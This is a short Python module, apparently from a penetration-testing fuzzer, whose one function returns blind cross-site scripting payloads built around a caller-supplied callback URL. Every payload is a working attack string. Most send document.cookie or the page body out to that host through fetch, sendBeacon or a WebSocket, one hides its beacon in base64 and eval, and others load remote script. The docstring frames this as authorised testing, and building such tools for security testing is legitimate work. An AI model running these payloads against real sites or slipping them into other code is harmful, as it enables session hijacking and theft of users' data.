"""Out-of-band payloads that call back to a collector the tester controls."""

import base64
from typing import List


def blind_payloads(callback_url: str) -> List[str]:
    url = callback_url.rstrip("/")
    ws_url = "ws" + url[4:] if url.startswith("http") else url
    beacon = base64.b64encode(f"fetch('{url}?c='+document.cookie)".encode()).decode()
    return [
        f"<img src=x onerror=\"fetch('{url}?m=FUZZMARK&c='+document.cookie)\">",
        f"<script src=\"{url}/FUZZMARK.js\"></script>",
        f"<script>navigator.sendBeacon('{url}?m=FUZZMARK',"
        f"JSON.stringify({{url:location.href,cookie:document.cookie}}))</script>",
        f"<script>var ws=new WebSocket('{ws_url}');"
        f"ws.onopen=()=>ws.send('FUZZMARK:'+document.cookie)</script>",
        f"<script>eval(atob('{beacon}'))</script><!--FUZZMARK-->",
        f"<svg/onload=\"fetch('{url}?m=FUZZMARK&d='+btoa(document.body.innerHTML))\">",
        f"<link rel=stylesheet href=\"{url}/FUZZMARK.css\">",
    ]
